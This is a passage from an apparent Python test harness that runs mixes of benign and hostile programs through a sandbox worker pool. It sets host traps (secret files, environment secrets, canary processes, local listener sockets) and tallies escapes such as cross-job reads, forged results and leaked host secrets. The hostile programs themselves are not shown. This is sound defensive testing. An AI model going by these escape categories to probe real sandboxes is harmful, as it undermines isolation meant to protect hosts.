    return FloodJob(index, kind, False, Job(code=prelude + code, expr=expr), value=value, stdout=stdout)


def make_mix(
    n: int,
    hostile_share: float,
    seed: int,
    ctx: Context,
    hostile_kinds: Iterable[str] | None = None,
    min_per_kind: int = 1,
) -> list[FloodJob]:
    """``n`` programs, a seeded shuffle: ``hostile_share`` of them hostile (every kind in
    ``hostile_kinds`` at least ``min_per_kind`` times, the rest by weight), the others benign."""
    rng = random.Random(seed)
    kinds = list(hostile_kinds if hostile_kinds is not None else HOSTILE)
    n_hostile = max(round(n * hostile_share), min_per_kind * len(kinds)) if kinds else 0
    if n_hostile >= n:
        raise ValueError(f"{n} programs leave no room for benign ones beside {n_hostile} hostile")
    hostile = _allocate(n_hostile, {k: HOSTILE[k].weight for k in kinds}, min_per_kind)
    benign = _allocate(n - n_hostile, {k: share for k, (_, share) in BENIGN.items()}, 1)
    plan = [(k, True) for k, c in hostile.items() for _ in range(c)]
    plan += [(k, False) for k, c in benign.items() for _ in range(c)]
    rng.shuffle(plan)
    return [make_job(i, kind, is_hostile, ctx, rng) for i, (kind, is_hostile) in enumerate(plan)]


def dedicated_mix(kind: str, ctx: Context, benign: int = 60, seed: int = 0) -> list[FloodJob]:
    """One hostile program of ``kind``, then ``benign`` arithmetic ones queued behind it (on one
    worker: more than the worker's 8 KiB read buffer, so some still wait in its stdin)."""
    rng = random.Random(seed)
    return [make_job(0, kind, True, ctx, rng)] + [make_job(i, "arith", False, ctx, rng) for i in range(1, benign + 1)]


# ---------------------------------------------------------------------------------------------
# Judging results


@dataclass
class Tally:
    """What a pass's results showed, summed over its chunks."""

    benign: int = 0
    hostile: int = 0
    benign_wrong: Counter = field(default_factory=Counter)
    escapes: Counter = field(default_factory=Counter)
    hostile_statuses: dict[str, Counter] = field(default_factory=dict)
    unexpected: dict[str, Counter] = field(default_factory=dict)
    own_results_forged: int = 0
    hostile_job_s: float = 0.0
    benign_job_s: float = 0.0
    hung: int = 0
    examples: list[str] = field(default_factory=list)

    def note(self, text: str) -> None:
        if len(self.examples) < 8:
            self.examples.append(text[:600])


def _text_of(result: Result) -> str:
    return "\n".join(x for x in (result.stdout, result.value, result.error) if x)


def _judge_benign(fj: FloodJob, result: Result, expected: str | None, foreign: set[int], tally: Tally) -> None:
    tally.benign += 1
    tally.benign_job_s += result.seconds
    if result.status == "ok" and result.value == expected and result.stdout == fj.stdout:
        return
    tally.benign_wrong[fj.kind] += 1
    tally.note(f"benign {fj.kind} #{fj.index}: {result.status} {result.value!r:.300} {result.error!r:.200}")
    if result.status == "ok" and fj.kind in LEFTOVER_WITNESSES:
        tally.escapes["leftover_seen"] += 1
    elif foreign:
        tally.escapes["foreign_result"] += 1  # mixed up with another program's


def _judge_hostile(fj: FloodJob, result: Result, foreign: set[int], own_forged: bool, tally: Tally) -> None:
    tally.hostile += 1
    tally.hostile_job_s += result.seconds
    tally.hung += result.status == "sandbox_failure" and "hung" in (result.error or "")
    tally.hostile_statuses.setdefault(fj.kind, Counter())[result.status] += 1
    if result.status not in fj.statuses:
        tally.unexpected.setdefault(fj.kind, Counter())[result.status] += 1
    if result.status == "ok" and own_forged:
        tally.own_results_forged += 1
    if foreign:
        tally.escapes["cross_job_read"] += 1
        tally.note(f"hostile {fj.kind} #{fj.index} read the tokens of {sorted(foreign)[:5]}")
    if "TAMPERED" in result.stdout:
        tally.escapes["worker_tampered"] += 1
        tally.note(f"hostile {fj.kind} #{fj.index}: {result.stdout[:300]}")


def judge(jobs: Sequence[FloodJob], results: Sequence[Result], ctx: Context, baseline: str, tally: Tally) -> None:
    """Adds ``results`` (one per job, in order) to ``tally``; ``baseline`` is a fresh probe's value.

    Another program's token in a result is evidence: after ``FORGED`` (what the forging kinds
    write) it is a result forged by that program (``foreign_result``); otherwise, in a hostile
    program's output, something it read (``cross_job_read``), in a benign one's, a mix-up."""
    tokens, forgers = ctx.token_pattern(), re.compile(rf"FORGED FLOOD_{ctx.run_id}_(\d+)_")
    host_secrets = (ctx.env_secret, ctx.file_secret)
    for fj, result in zip(jobs, results, strict=True):
        text = _text_of(result)
        forged_by = {int(i) for i in forgers.findall(text)} - {fj.index}
        foreign = {int(i) for i in tokens.findall(text)} - {fj.index} - forged_by
        if forged_by:
            tally.escapes["foreign_result"] += 1
            tally.note(f"{fj.kind} #{fj.index}: result forged by {sorted(forged_by)}: {result.value!r:.100}")
        if any(secret in text for secret in host_secrets):
            tally.escapes["host_secret"] += 1
            tally.note(f"{fj.kind} #{fj.index} printed a host secret")
        if fj.hostile:
            forged = f"FORGED {ctx.token(fj.index)}" in (result.value or "")
            if HOSTILE[fj.kind].judged:
                forged = result.status == "ok" and result.value == "True"  # judged correct
            _judge_hostile(fj, result, foreign, forged, tally)
        elif forged_by:  # wrong, and already counted as an escape
            tally.benign += 1
            tally.benign_wrong[fj.kind] += 1
        else:
            _judge_benign(fj, result, baseline if fj.kind == "probe" else fj.value, foreign, tally)


def probe_baseline(pool: SandboxPool, ctx: Context) -> str:
    """What a probe sees in this (fresh) pool: every later probe must see exactly the same."""
    (result,) = pool.run([Job(code=ctx.prelude(-1, False) + PROBE, expr="survey")])
    if result.status != "ok" or result.value is None:
        raise RuntimeError(f"the probe fails in a fresh pool: {result}")
    return result.value


def run_pass(
    pool: SandboxPool,
    jobs: Sequence[FloodJob],
    ctx: Context,
    baseline: str,
    chunk: int = 2500,
) -> tuple[Tally, float]:
    """Runs ``jobs`` through ``pool`` in chunks (each far larger than the pool's window, so every
    worker stays busy); returns the tally and the wall seconds of the runs alone."""
    tally, wall = Tally(), 0.0
    for start in range(0, len(jobs), chunk):
        part = jobs[start : start + chunk]
        t0 = time.perf_counter()
        results = pool.run([fj.job for fj in part])
        wall += time.perf_counter() - t0
        judge(part, results, ctx, baseline, tally)
    return tally, wall


# ---------------------------------------------------------------------------------------------
# The host: traps before, evidence and leftovers after


def sandbox_uids(config: SandboxConfig) -> set[int]:
    """The host uids the backend's workers run as (none to tell apart when not root, for local)."""
    if config.backend == "docker":
        return {config.uid_base + DOCKER_UID_OFFSET + i for i in range(config.workers)}
    if config.backend == "local" and os.geteuid() == 0:
        return {config.uid_base + i for i in range(config.workers)}
    return set()


class HostTraps:
    """Sets the host's traps for one run (a context manager) and reports what reached them."""

    def __init__(self, uids: Iterable[int] = ()) -> None:
        self.run_id = secrets.token_hex(4)
        self.uids = sorted(set(uids))
        self.trap_dir = Path(f"/tmp/populora-flood-{self.run_id}")
        self._stop = threading.Event()
        self._received: list[str] = []
        self._threads: list[threading.Thread] = []
        self._sockets: list[socket.socket] = []
        self._canaries: list[subprocess.Popen] = []
        self._env_had: str | None = None
        self.context: Context | None = None

    def __enter__(self) -> HostTraps:
        try:
            self._setup()
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def _setup(self) -> None:
        drop = self.trap_dir / "drop"
        drop.mkdir(parents=True)
        self.trap_dir.chmod(0o755)
        drop.chmod(0o1777)
        file_secret, env_secret = f"FLOODSECRET_{secrets.token_hex(8)}", f"FLOODENV_{secrets.token_hex(8)}"
        secret_file = self.trap_dir / "secret.txt"
        secret_file.write_text(file_secret)
        secret_file.chmod(0o644)
        self._env_had = os.environ.get("POPULORA_FLOOD_SECRET")
        os.environ["POPULORA_FLOOD_SECRET"] = env_secret
        tcp, udp = self._listen(socket.SOCK_STREAM), self._listen(socket.SOCK_DGRAM)
        owners = {os.geteuid(), *self.uids} if os.geteuid() == 0 else {os.geteuid()}  # root: one per sandbox uid
        self._canaries = [c for c in map(self._canary, sorted(owners)) if c is not None]
        self.context = Context(
            run_id=self.run_id,
            trap_dir=str(self.trap_dir),
            drop_dir=str(drop),
            secret_file=str(secret_file),
            file_secret=file_secret,
            env_secret=env_secret,
            tcp_port=tcp,
            udp_port=udp,
            canaries=tuple(c.pid for c in self._canaries),
        )

    def _listen(self, kind: int) -> int:
        """A socket on 127.0.0.1 that records whatever reaches it; returns its port."""
        sock = socket.socket(socket.AF_INET, kind)
        sock.bind(("127.0.0.1", 0))
        sock.settimeout(0.2)
        if kind == socket.SOCK_STREAM:
            sock.listen(16)
        self._sockets.append(sock)

        def serve() -> None:
            while not self._stop.is_set():
                try:
                    if kind == socket.SOCK_STREAM:
                        conn, peer = sock.accept()
                        conn.close()
                        self._received.append(f"tcp from {peer}")
                    else:
                        data, peer = sock.recvfrom(4096)
                        self._received.append(f"udp from {peer}: {data[:60]!r}")
                except OSError:
                    pass

        thread = threading.Thread(target=serve, daemon=True, name=f"flood-listen-{kind}")
        thread.start()
        self._threads.append(thread)
        return sock.getsockname()[1]

    @staticmethod
    def _canary(uid: int) -> subprocess.Popen | None:
        """A sleeping host process as ``uid`` that no program may kill."""
        ids = {} if uid == os.geteuid() else {"user": uid, "group": uid, "extra_groups": []}
        try:
            return subprocess.Popen(["sleep", "86400"], start_new_session=True, **ids)
        except (OSError, subprocess.SubprocessError):
            return None

    def canary_pids(self) -> set[int]:
        return {c.pid for c in self._canaries}

    def evidence(self) -> Counter:
        """What reached the host: files in the drop directory or named for the run, dead
        canaries, connections or datagrams."""
        found: Counter = Counter()
        drop = self.trap_dir / "drop"
        found["host_file"] += len(list(drop.iterdir())) if drop.is_dir() else 0
        prefix = self.context.prefix if self.context else "-"
        found["host_file"] += sum(1 for path in _named_for_run(prefix) if not path.startswith(str(self.trap_dir)))
        found["host_process"] += sum(1 for c in self._canaries if c.poll() is not None)
        found["network"] += len(self._received)
        return +found

    def close(self) -> None:
        """Stops listeners and canaries, removes the trap directory, restores the environment."""
        self._stop.set()
        for thread in self._threads:
            thread.join(2)
        for sock in self._sockets:
            sock.close()
        for canary in self._canaries:
            if canary.poll() is None:
                canary.kill()
            canary.wait(10)
        self._canaries, self._threads, self._sockets = [], [], []
        if self.trap_dir.exists():
            _remove_tree(self.trap_dir)
        if self._env_had is None:
            os.environ.pop("POPULORA_FLOOD_SECRET", None)
        else:
            os.environ["POPULORA_FLOOD_SECRET"] = self._env_had


def _remove_tree(path: Path) -> None:
    """Removes ``path`` even where a program left directories without permissions."""

    def unlock(func, target, _exc) -> None:
        os.chmod(os.path.dirname(target), stat.S_IRWXU)
        if os.path.isdir(target) and not os.path.islink(target):
            os.chmod(target, stat.S_IRWXU)
        func(target)

    shutil.rmtree(path, onerror=unlock)


TOP_LEVEL_ONLY = ("/", "/etc", "/usr/lib", str(REPO))
RECURSIVE = ("/tmp", "/var/tmp", "/dev/shm")


def _host_entries() -> Iterable[tuple[str, int]]:
    """(path, owner uid) of every entry of the places a program might reach on the host."""
    for top in TOP_LEVEL_ONLY:
        try:
            with os.scandir(top) as it:
                for entry in it:
                    try:
                        yield entry.path, entry.stat(follow_symlinks=False).st_uid
                    except OSError:
                        pass
        except OSError:
            pass
    for top in RECURSIVE:
        for folder, dirs, files in os.walk(top, onerror=lambda _exc: None):
            for name in dirs + files:
                path = os.path.join(folder, name)
                try:
                    yield path, os.lstat(path).st_uid
                except OSError:
                    pass


def _named_for_run(prefix: str) -> list[str]:
    return [path for path, _ in _host_entries() if prefix in os.path.basename(path)]


def _processes_of(uids: set[int], spare: set[int]) -> list[int]:
    """Host pids whose real or effective uid is in ``uids`` (``spare`` aside)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in spare:
            continue
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        line = next((x for x in status.splitlines() if x.startswith("Uid:")), "")
        if {int(u) for u in line.split()[1:3]} & uids:
            found.append(int(pid))
    return found


def _containers_of(run_tag: str) -> list[str]:
    return [c.name for c in docker_client().containers.list(all=True) if run_tag in c.name]


def leftovers(pool: SandboxPool, traps: HostTraps, settle_s: float = 10.0) -> dict:
    """After ``pool`` is closed: its processes, containers and files still on the host.
    Processes get ``settle_s`` to finish dying (a killed process is gone only once reaped)."""
    uids = sandbox_uids(pool.config)
    spare = traps.canary_pids()
    deadline = time.monotonic() + settle_s
    while True:
        procs = _processes_of(uids, spare) if uids else []
        containers = _containers_of(pool.backend.run_tag) if pool.backend.name == "docker" else []
        if not (procs or containers) or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    marks = (traps.context.prefix, f"FLOOD_{traps.run_id}_") if traps.context else ()
    files = [path for path, uid in _host_entries() if uid in uids or any(m in os.path.basename(path) for m in marks)]
    return {
        "leaked_processes": len(procs) + len(containers),
        "leaked_files": len(files),
        "leaked_examples": [*map(str, procs[:3]), *containers[:3], *files[:5]],
    }


# ---------------------------------------------------------------------------------------------
# The flood


def _timed_pass(backend: str, workers: int, jobs: list[FloodJob], ctx: Context, chunk: int):
    """A fresh pool (docker skipped as the other tests skip it), warm, its baseline probe, then
    ``jobs``: (tally, wall seconds, the closed pool)."""
    pool = start_pool(backend, workers=workers, **POOL_SETTINGS)
    try:
        pool.run([Job(code="", expr="1")] * (4 * workers))  # every worker up and warm
        tally, wall = run_pass(pool, jobs, ctx, probe_baseline(pool, ctx), chunk)
    finally:
        pool.close()
    return tally, wall, pool


def run(
    backend: str, workers: int, make_jobs: Callable[[Context], list[FloodJob]], chunk: int = 2500
) -> tuple[list[FloodJob], dict]:
    """The mix ``make_jobs`` gives among the host's traps: its benign programs alone through a
    fresh pool, then the whole mix through another. Returns the mix and the figures (the
    module docstring defines them)."""
    config = SandboxConfig(backend=backend, workers=workers, **POOL_SETTINGS)
    with HostTraps(sandbox_uids(config)) as traps:
        mix = make_jobs(traps.context)
        benign = [fj for fj in mix if not fj.hostile]
        alone, alone_s, _ = _timed_pass(backend, workers, benign, traps.context, chunk)
        started = time.perf_counter()
        flood, flood_s, pool = _timed_pass(backend, workers, mix, traps.context, chunk)
        leaks = leftovers(pool, traps)
        escapes = flood.escapes + traps.evidence()
        total_s = time.perf_counter() - started
    per_s, per_s_alone = flood.benign / flood_s, alone.benign / alone_s
    hostile_s = flood.hostile_job_s + flood.hung * 2 * (config.timeout_s + config.worker_grace_s)
    net_s = max(1e-9, flood_s - hostile_s / workers)
    return mix, {
        "backend": backend,
        **POOL_SETTINGS,
        "programs": len(mix),
        "hostile": flood.hostile,
        "benign": flood.benign,
        "workers": workers,
        "seconds": round(flood_s, 1),
        "benign_wrong": sum(flood.benign_wrong.values()),
        "escapes": sum(escapes.values()),
        "leaked_processes": leaks["leaked_processes"],
        "leaked_files": leaks["leaked_files"],
        "benign_per_s": round(per_s, 1),
        "benign_per_s_alone": round(per_s_alone, 1),
        "ratio": round(per_s / per_s_alone, 3),
        "ratio_net": round(flood.benign / net_s / per_s_alone, 3),
        "hostile_job_s": round(hostile_s, 1),
        "busy_share": round((hostile_s + flood.benign_job_s) / (workers * flood_s), 3),
        "benign_alone_s": round(alone_s, 1),
        "escapes_by": dict(escapes),
        "own_results_forged": flood.own_results_forged,
        "benign_wrong_by_kind": dict(flood.benign_wrong),
        "benign_wrong_alone": sum(alone.benign_wrong.values()),
        "worker_restarts": pool.stats.worker_restarts,
        "sandbox_failures": pool.stats.sandbox_failures,
        "hostile_by_kind": {k: dict(v) for k, v in sorted(flood.hostile_statuses.items())},
        "hostile_unexpected": {k: dict(v) for k, v in sorted(flood.unexpected.items())},
        "examples": flood.examples + leaks["leaked_examples"],
        "total_s": round(total_s, 1),
    }
